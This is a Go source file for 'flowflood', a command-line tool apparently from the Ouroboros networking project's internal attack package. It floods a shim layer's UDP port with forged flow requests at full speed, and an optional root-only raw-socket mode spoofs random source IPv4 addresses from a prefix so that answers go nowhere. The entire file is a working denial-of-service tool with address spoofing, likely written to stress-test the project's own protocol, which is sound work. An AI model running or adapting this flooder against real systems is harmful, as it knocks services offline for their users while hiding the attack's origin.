// Command flowflood floods a shim layer's UDP port with well-formed flow
// requests (FLOW_REQ) as fast as one core sends them: random endpoint ids,
// random name hashes or the hash of a real name (-name), random data the
// size of a key exchange (-data). With -spoof PREFIX every other request
// leaves from a random address of PREFIX (a raw socket writing its own IP
// header: root only), so that answers go nowhere. It prints what it sent.
//
//	flowflood -to 10.2.0.2:3435 -for 10s -name pinger -spoof 198.18.0.0/15
package main

import (
	"encoding/binary"
	"flag"
	"fmt"
	"math/rand/v2"
	"net"
	"net/netip"
	"os"
	"os/signal"
	"syscall"
	"time"

	crand "crypto/rand"

	"o7s.dev/ouroboros/internal/attack/rawudp"
	"o7s.dev/ouroboros/stack/ipcp"
)

func main() {
	to := flag.String("to", "", "the victim's shim address, IP:PORT (IPv4)")
	dur := flag.Duration("for", 10*time.Second, "how long to flood")
	name := flag.String("name", "", "a name registered at the victim: half the requests ask for it")
	dataLen := flag.Int("data", 65, "bytes of random data per request (the size of a key exchange)")
	spoof := flag.String("spoof", "", "send every other request from a random address of this IPv4 prefix (root)")
	version := flag.Int("version", 2, "the shim management version to speak")
	flag.Parse()
	if err := run(*to, *dur, *name, *dataLen, *spoof, byte(*version)); err != nil {
		fmt.Fprintln(os.Stderr, "flowflood:", err)
		os.Exit(1)
	}
}

func run(to string, dur time.Duration, name string, dataLen int, spoof string, version byte) error {
	dst, err := netip.ParseAddrPort(to)
	if err != nil || !dst.Addr().Is4() {
		return fmt.Errorf("-to %q: want an IPv4 IP:PORT", to)
	}
	conn, err := net.DialUDP("udp4", nil, net.UDPAddrFromAddrPort(dst))
	if err != nil {
		return err
	}
	defer conn.Close()
	var raw *spoofer
	if spoof != "" {
		p, err := netip.ParsePrefix(spoof)
		if err != nil || !p.Addr().Is4() {
			return fmt.Errorf("-spoof %q: want an IPv4 prefix", spoof)
		}
		if raw, err = newSpoofer(p, dst); err != nil {
			return err
		}
		defer raw.close()
	}
	var real []byte
	if name != "" {
		real = ipcp.DefaultHash.Sum(name)
	}
	buf := make([]byte, 0, 256+dataLen)
	var sent, spoofed, failed uint64
	stop := make(chan os.Signal, 1)
	signal.Notify(stop, syscall.SIGINT, syscall.SIGTERM) // stop early, still reporting
	start := time.Now()
	for end := start.Add(dur); ; {
		if sent%1024 == 0 && (time.Now().After(end) || len(stop) > 0) {
			break
		}
		buf = request(buf[:0], version, real, dataLen)
		if raw != nil && sent%2 == 1 {
			err = raw.send(buf)
			spoofed++
		} else {
			_, err = conn.Write(buf)
		}
		if err != nil {
			failed++ // ECONNREFUSED after an ICMP error, ENOBUFS: keep going
		}
		sent++
	}
	el := time.Since(start)
	fmt.Printf("sent %d flow requests in %v (%.0f/s), %d from spoofed addresses, %d send errors\n",
		sent, el.Round(time.Millisecond), float64(sent)/el.Seconds(), spoofed, failed)
	return nil
}

// request appends a FLOW_REQ: random endpoint id, token and commit, no
// cookie, a raw QoS, a random hash (or the real one, half the time) and
// random data.
func request(b []byte, version byte, real []byte, dataLen int) []byte {
	b = append(b, 0, 0, 0, 0, version, 1)
	b = binary.BigEndian.AppendUint32(b, rand.Uint32()|1)
	if version >= 2 {
		b = binary.BigEndian.AppendUint64(b, rand.Uint64()) // token
		b = appendRandom(b, 16)                             // commit
		b = append(b, 0)                                    // no cookie
	}
	b = append(b, make([]byte, 30)...) // QoS: raw
	if real != nil && rand.IntN(2) == 0 {
		b = append(b, byte(len(real)))
		b = append(b, real...)
	} else {
		b = append(b, 32)
		b = appendRandom(b, 32)
	}
	b = binary.BigEndian.AppendUint16(b, uint16(dataLen))
	return appendRandom(b, dataLen)
}

func appendRandom(b []byte, n int) []byte {
	b = append(b, make([]byte, n)...)
	crand.Read(b[len(b)-n:])
	return b
}

// spoofer sends from random addresses and ports of a prefix.
type spoofer struct {
	conn *rawudp.Conn
	from netip.Prefix
	to   netip.AddrPort
}

func newSpoofer(from netip.Prefix, to netip.AddrPort) (*spoofer, error) {
	c, err := rawudp.Open()
	if err != nil {
		return nil, err
	}
	return &spoofer{conn: c, from: from.Masked(), to: to}, nil
}

func (s *spoofer) close() { s.conn.Close() }

func (s *spoofer) send(payload []byte) error {
	src := s.from.Addr().As4()
	host := rand.Uint32() & (1<<(32-s.from.Bits()) - 1)
	binary.BigEndian.PutUint32(src[:], binary.BigEndian.Uint32(src[:])|host)
	return s.conn.Send(netip.AddrPortFrom(netip.AddrFrom4(src), uint16(1024+rand.IntN(60000))), s.to, payload)
}
